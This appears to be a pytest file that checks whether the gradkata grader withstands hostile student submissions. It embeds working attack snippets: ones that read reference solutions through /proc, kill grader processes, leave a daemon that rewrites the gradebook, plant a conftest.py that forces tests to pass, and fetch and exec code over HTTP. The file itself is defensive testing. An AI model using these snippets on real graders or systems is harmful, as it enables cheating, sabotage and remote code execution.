"""Class grading against hostile submissions: one batch of ``gradkata grade
--jobs 2`` on real submission folders, one attack each, every attack between
correct submissions (copies of solutions/) and untouched stubs (copies of
exercises/).

For every attack: it costs at most its own exercise's points, the correct
submissions keep full marks, the stubs score 0, the kata's tree is unchanged,
no process a submission started is alive after the batch, the gradebook is the
same 10 s after the batch as at its end, and the batch ends in normal time.

Some attacks only the OS jail can stop (reading the reference by path, killing
every grader, planting a conftest.py, the network). Where user namespaces work
and the jail is not in force, their tests fail instead of running them: run
unjailed, they would spoil this very checkout.
"""

from __future__ import annotations

import csv
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Dict, List, NamedTuple

import pytest
from test_grading import submission, with_y_hat

from gradkata import catalog, classgrade, jail

pytestmark = pytest.mark.slow  # one class-sized batch: tox runs it once, not per Python

ROOT = Path(__file__).resolve().parents[2]
FULL = {e.name: e.points for e in catalog.EXERCISES}
TAG = "gkhostile"  # every process an attack leaves behind carries it (comm or argv)
LINGER = 600  # seconds a left-behind process means to live (the grader ends it long before)
TIMEOUT = 2  # each test's limit in the batch
SETTLE = 10  # seconds after the batch in which the gradebook must not change

# What an attack's module does besides its stub functions (it ends the stub's
# source). {name} is the module's name, {port} the test's answer server.

READS_THE_REFERENCE = '''
def _steal():
    import os
    places = set()

    def upwards(path):
        while True:
            places.add(os.path.join(path, "solutions", "{name}.py"))
            if os.path.dirname(path) == path:
                return
            path = os.path.dirname(path)

    upwards(os.getcwd())
    upwards(os.path.dirname(os.path.abspath(__file__)))
    for pid in [str(os.getppid())] + os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            upwards(os.readlink(f"/proc/{{pid}}/cwd"))
            with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        for arg in args:
            for part in arg.replace("=", " ").replace("'", " ").replace(",", " ").split():
                if part.startswith("/"):
                    upwards(part)
    for path in sorted(places):
        if os.path.isfile(path):
            with open(path) as f:
                exec(f.read(), globals())
            return


try:
    _steal()
except Exception:
    pass
'''

KILLS_ITS_JUDGE = '''
import os, signal

_parent = os.getppid()
try:
    with open(f"/proc/{{_parent}}/stat") as _f:
        _grandparent = int(_f.read().rsplit(")", 1)[1].split()[1])
except (OSError, ValueError, IndexError):
    _grandparent = None
for _pid in (_parent, _grandparent):
    if _pid is not None:
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError:
            pass
'''

KILLS_EVERY_GRADER = '''
import os, signal

for _pid in os.listdir("/proc"):
    if not _pid.isdigit() or int(_pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{{_pid}}/cmdline", "rb") as _f:
            _args = _f.read()
        if b"gradkata" in _args or b"pytest" in _args:
            os.kill(int(_pid), signal.SIGKILL)
    except OSError:
        pass
'''

# The daemon: it waits for the gradebook, then gives its own submission full marks.
REWRITER = '''
import csv, json, os, sys, time
tag, linger, folder, full = sys.argv[1], float(sys.argv[2]), sys.argv[3], json.loads(sys.argv[4])
me = os.path.basename(folder)
end = time.monotonic() + linger
book = results = None
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = f.read().decode(errors="replace").split("\\0")
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        continue
    if "grade" in args and "--csv" in args:
        book = os.path.join(cwd, args[args.index("--csv") + 1])
        if "--results" in args:
            results = os.path.join(cwd, args[args.index("--results") + 1], me, "results.json")
while time.monotonic() < end and not (book and os.path.exists(book)):
    time.sleep(0.1)
if book and os.path.exists(book):
    time.sleep(1)
    with open(book, newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        if row["submission"] == me:
            row.update({k: str(v) for k, v in full.items()})
            row["score"] = row["max_score"]
    with open(book, "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    if results and os.path.exists(results):
        with open(results) as f:
            data = json.load(f)
        data["score"] = sum(full.values())
        with open(results, "w") as f:
            json.dump(data, f)
time.sleep(max(0.0, end - time.monotonic()))
'''

LEAVES_A_DAEMON = '''
import os, sys

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 65536)
        os.execv(sys.executable, [sys.executable, "-c", {rewriter!r}, "{tag}", "{linger}",
                                  os.path.dirname(os.path.abspath(__file__)), {full!r}])
    os._exit(0)
'''

LEAVES_A_CHILD_ON_THE_PIPES = '''
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"{tag}", 0, 0, 0)  # PR_SET_NAME: how the test finds it
            time.sleep({linger})
        finally:
            os._exit(0)
    os._exit(0)
'''

PLANTS_A_CONFTEST = '''
_PLANTED = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""


def _plant():
    import os
    places = {{os.getcwd()}}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                places.add(os.readlink(f"/proc/{{pid}}/cwd"))
            except OSError:
                pass
    for start in places:
        path = start
        while True:
            if os.path.isfile(os.path.join(path, "pyproject.toml")):
                for folder in (path, os.path.join(path, "tests")):
                    try:
                        with open(os.path.join(folder, "conftest.py"), "a") as f:
                            f.write(_PLANTED)
                    except OSError:
                        pass
            if os.path.dirname(path) == path:
                break
            path = os.path.dirname(path)


_plant()
'''

PHONES_HOME = '''
try:
    import urllib.request
    exec(urllib.request.urlopen("http://127.0.0.1:{port}/{name}.py", timeout=2).read(),
         globals())
except Exception:
    pass
'''


# What the kata has long had to survive, each in single_neuron.py.
HOSTILE = {
    "loops-forever": with_y_hat("    while True:\n        pass\n"),
    "calls-os-exit": with_y_hat("    import os\n    os._exit(0)\n"),
    "calls-sys-exit": with_y_hat("    import sys\n    sys.exit(0)\n"),
    "raises-keyboard-interrupt": with_y_hat("    raise KeyboardInterrupt\n"),
    "recurses-without-end": with_y_hat("    return y_hat(x_1, x_2, w)\n"),
    "asks-for-terabytes": with_y_hat("    big = np.ones((1 << 20, 1 << 20))\n"
                                     "    return float(big.sum())\n"),
    "prints-megabytes": with_y_hat('    print("x" * 5_000_000)\n    return 0.0\n'),
    "syntax-error": "def y_hat(x_1, x_2, w:\n    return 0\n",
    "fails-to-import": "import a_module_that_does_not_exist\n",
    "monkeypatches-numpy-and-pytest": with_y_hat(
        "    return 0.0\n",
        header="import numpy, numpy.testing, pytest\n"
               "numpy.allclose = lambda *a, **k: True\n"
               "numpy.isclose = lambda *a, **k: True\n"
               "numpy.testing.assert_allclose = lambda *a, **k: None\n"
               "pytest.approx = lambda *a, **k: a[0]\n"),
    "hard-codes-the-seeds": (
        "import numpy as np\n"
        "def y_hat(x_1, x_2, w):\n    return 0.0 if list(w) == [-0.5, 0.5, 1.5] else 0.6\n"
        "def gradient_w1(y_hat, y, x_1):\n    return -2.0\n"
        "def gradient_w2(y_hat, y, x_2):\n    return 1.0\n"
        "def gradient_b(y_hat, y):\n    return -1.0\n"
        "def adapt_weights(x_1, x_2, y, initial_weights, epochs, alpha=0.1):\n"
        "    table = {0: [-0.5, 0.5, 1.5], 1: [-0.3, 0.4, 1.6], 2: [-0.22, 0.36, 1.64]}\n"
        "    return np.array(table.get(epochs, [-1 / 6, 1 / 3, 5 / 3]))\n"),
    "imports-the-reference": "from solutions.single_neuron import *  # noqa\n",
}


class Attack(NamedTuple):
    code: str
    needs_jail: bool  # only the OS jail stops it
    harmful_unjailed: bool = False  # unjailed, it would spoil this checkout or this run


ATTACKS = {
    "reads-the-reference": Attack(READS_THE_REFERENCE, True),
    "kills-its-judge": Attack(KILLS_ITS_JUDGE, False),
    "kills-every-grader": Attack(KILLS_EVERY_GRADER, True, harmful_unjailed=True),
    "leaves-a-daemon-that-rewrites-the-gradebook": Attack(LEAVES_A_DAEMON, False),
    "leaves-a-child-on-the-pipes": Attack(LEAVES_A_CHILD_ON_THE_PIPES, False),
    "plants-a-conftest": Attack(PLANTS_A_CONFTEST, True, harmful_unjailed=True),
    "phones-home": Attack(PHONES_HOME, True),
}


def exercise_of(attack: str) -> str:
    """Each attack sits in one module, a different one in turn."""
    return catalog.NAMES[list(ATTACKS).index(attack) % len(catalog.NAMES)]


def user_namespaces_work() -> bool:
    if not sys.platform.startswith("linux") or shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "-Ur", "true"], capture_output=True).returncode == 0


JAILED = jail.status().jailed


def runs(attack: str) -> bool:
    return JAILED or not ATTACKS[attack].harmful_unjailed


def kata_state() -> str:
    """What git sees of the kata's folder: untracked files and changes, with content."""
    status = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all", "."],
                            cwd=ROOT, capture_output=True, text=True).stdout
    diff = subprocess.run(["git", "diff", "."], cwd=ROOT, capture_output=True, text=True).stdout
    return status + diff


def tagged_processes() -> List[str]:
    """The processes alive that an attack started (by name or command line)."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            comm = Path(f"/proc/{pid}/comm").read_text().strip()
            args = Path(f"/proc/{pid}/cmdline").read_bytes()
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z" and (comm == TAG or TAG.encode() in args):
            found.append(f"{pid} {comm} {args[:200]!r}")
    return found


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass


class Batch(NamedTuple):
    proc: subprocess.CompletedProcess
    elapsed: float
    rows: Dict[str, Dict[str, str]]
    book: Dict[str, bytes]  # the CSV and every results.json, at the batch's end
    book_later: Dict[str, bytes]  # the same, SETTLE seconds later
    left_at_end: List[str]
    left_later: List[str]
    kata_before: str
    kata_after: str
    header: List[str]
    correct: List[str]
    stubs: List[str]


def _gradebook(table: Path, results: Path) -> Dict[str, bytes]:
    files = {"grades.csv": table.read_bytes()} if table.exists() else {}
    for path in sorted(results.rglob("*")) if results.exists() else ():
        if path.is_file():
            files[str(path.relative_to(results))] = path.read_bytes()
    return files


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> Batch:
    tmp = tmp_path_factory.mktemp("class")
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), lambda *a: _Quiet(*a, directory=str(ROOT / "solutions")))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    context = dict(tag=TAG, linger=LINGER, rewriter=REWRITER, full=json.dumps(FULL), port=port)

    def stub(name: str) -> Path:
        folder = tmp / name
        shutil.copytree(ROOT / "exercises", folder, ignore=shutil.ignore_patterns("__pycache__"))
        return folder

    corrects = []

    def correct(name: str) -> Path:
        corrects.append(name)
        return submission(tmp, name)

    folders = [correct("correct-00"), stub("stub-first")]
    count = 1
    attacks = {name: attack.code for name, attack in ATTACKS.items() if runs(name)}
    for name, code in attacks.items():
        folder = stub(name)  # every module correct but the attacked one, a stub with the attack
        module = exercise_of(name)
        for path in (ROOT / "solutions").glob("*.py"):
            if path.stem not in ("__init__", module):
                shutil.copy(path, folder)
        source = (ROOT / "exercises" / f"{module}.py").read_text()
        (folder / f"{module}.py").write_text(source + code.format(name=module, **context))
        folders += [folder, correct(f"correct-{count:02d}")]
        count += 1
    for name, code in {**HOSTILE, "correct-but-chatty": with_y_hat(
            '    print("thinking... " * 300_000)\n'
            "    return float(x_1 * w[0] + x_2 * w[1] + w[2])\n")}.items():
        folders += [submission(tmp, name, code), correct(f"correct-{count:02d}")]
        count += 1
    folders.append(stub("stub-last"))

    table, results = tmp / "grades.csv", tmp / "results"
    before = kata_state()
    planted = [p for p in (ROOT / "conftest.py", ROOT / "tests" / "conftest.py") if p.exists()]
    # Its output goes to files, not pipes: the batch's end is its own process's exit,
    # whatever else holds on to its output.
    out, err = tmp / "grade.out", tmp / "grade.err"
    started = time.monotonic()
    try:
        with out.open("w") as stdout, err.open("w") as stderr:
            command = [sys.executable, "-m", "gradkata", "grade", *map(str, folders),
                       "--csv", str(table), "--results", str(results), "--jobs", "2",
                       "--timeout", str(TIMEOUT)]
            grading = subprocess.Popen(
                command, cwd=ROOT, stdout=stdout, stderr=stderr, text=True,
                env={k: v for k, v in os.environ.items() if k != "GRADKATA_IMPL"})
            code = grading.wait(timeout=LINGER * 3)
        proc = subprocess.CompletedProcess(command, code, out.read_text(), err.read_text())
    finally:
        elapsed = time.monotonic() - started
        server.shutdown()
        after = kata_state()
        # Never leave a planted file behind for later runs (the test fails on it anyway).
        for path in (ROOT / "conftest.py", ROOT / "tests" / "conftest.py"):
            if path.exists() and path not in planted:
                path.unlink()
    book = _gradebook(table, results)
    left = tagged_processes()
    time.sleep(SETTLE)
    rows = {row["submission"]: row for row in csv.DictReader(table.open())} \
        if table.exists() else {}
    header = next(csv.reader(table.open())) if table.exists() else []
    return Batch(proc, elapsed, rows, book, _gradebook(table, results), left,
                 tagged_processes(), before, after, header,
                 corrects,
                 [f.name for f in folders if f.name.startswith("stub")])


def _explain(batch: Batch) -> str:
    return batch.proc.stderr[-4000:]


def test_the_batch_writes_every_row_in_normal_time(batch: Batch) -> None:
    assert batch.header == classgrade.CSV_COLUMNS, _explain(batch)
    assert batch.elapsed < LINGER / 2, _explain(batch)  # no wait on a left-behind process
    attacks = [a for a in ATTACKS if runs(a)]
    assert len(batch.rows) == len(attacks) + len(HOSTILE) + 1 + len(batch.correct) + 2
    for name, row in batch.rows.items():
        assert float(row["max_score"]) == sum(FULL.values()), row
        assert f"{name}/results.json" in batch.book, name


def test_correct_submissions_keep_full_marks_and_stubs_score_zero(batch: Batch) -> None:
    for name in batch.correct:
        row = batch.rows[name]
        assert row["status"] == "graded" and row["score"] == row["max_score"], row
    for name in batch.stubs:
        row = batch.rows[name]
        assert row["status"] == "graded" and float(row["score"]) == 0, row


def test_the_kata_is_unchanged(batch: Batch) -> None:
    assert batch.kata_after == batch.kata_before


def test_no_process_a_submission_started_outlives_the_batch(batch: Batch) -> None:
    assert batch.left_at_end == [] and batch.left_later == []


def test_the_gradebook_stays_as_written(batch: Batch) -> None:
    assert batch.book and batch.book_later == batch.book


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_an_attack_costs_at_most_its_own_exercise(batch: Batch, attack: str) -> None:
    if ATTACKS[attack].needs_jail and not JAILED:
        if not user_namespaces_work():
            pytest.skip("needs the OS jail, and this system has no user namespaces")
        if not runs(attack):
            pytest.fail(f"'{attack}' needs the OS jail, which is not in force here although "
                        f"user namespaces work (isolation: {jail.status().text}); "
                        "it was not run, since unjailed it would spoil this checkout")
        # Run unjailed, it fails below on what it managed (stolen points).
    row = batch.rows[attack]
    exercise = exercise_of(attack)
    if attack == "kills-its-judge" and not JAILED:
        # Without the jail a worker can kill its judge: the submission alone is
        # lost, twice, and recorded as such (never as a score).
        assert row["status"].startswith("error: the judge was killed"), row
        assert row["score"] == "" and float(row["max_score"]) == sum(FULL.values()), row
        return
    assert row["status"] == "graded", row
    for name in catalog.NAMES:
        # The attacked module's functions are the stubs': anything above 0 is stolen.
        expected = 0 if name == exercise else FULL[name]
        assert float(row[name]) == expected, (attack, name, row)


@pytest.mark.parametrize("name", [*HOSTILE, "correct-but-chatty"])
def test_a_hostile_single_neuron_costs_at_most_its_points(batch: Batch, name: str) -> None:
    row = batch.rows[name]
    assert row["status"] == "graded", row
    for exercise in catalog.NAMES:
        earned = float(row[exercise])
        if exercise == "single_neuron" and name != "correct-but-chatty":
            assert earned < FULL[exercise], (name, row)
        else:
            assert earned == FULL[exercise], (name, exercise, row)


def test_without_the_jail_require_isolation_refuses_and_the_summary_says_so(tmp_path):
    env = {k: v for k, v in os.environ.items() if k != "GRADKATA_IMPL"}
    env["GRADKATA_ISOLATION"] = "processes"
    folder = submission(tmp_path, "alice")
    table = tmp_path / "grades.csv"

    def grade(*extra: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "gradkata", "grade", str(folder),
                               "--csv", str(table), "--jobs", "1", *extra],
                              cwd=ROOT, capture_output=True, text=True, timeout=300, env=env)

    refused = grade("--require-isolation")
    assert refused.returncode == 2
    assert "--require-isolation: refusing to grade" in refused.stderr
    assert "processes only" in refused.stderr
    assert not table.exists()
    graded = grade()
    assert graded.returncode == 0, graded.stderr[-3000:]
    assert "isolation: processes only" in graded.stderr.splitlines()[-1]
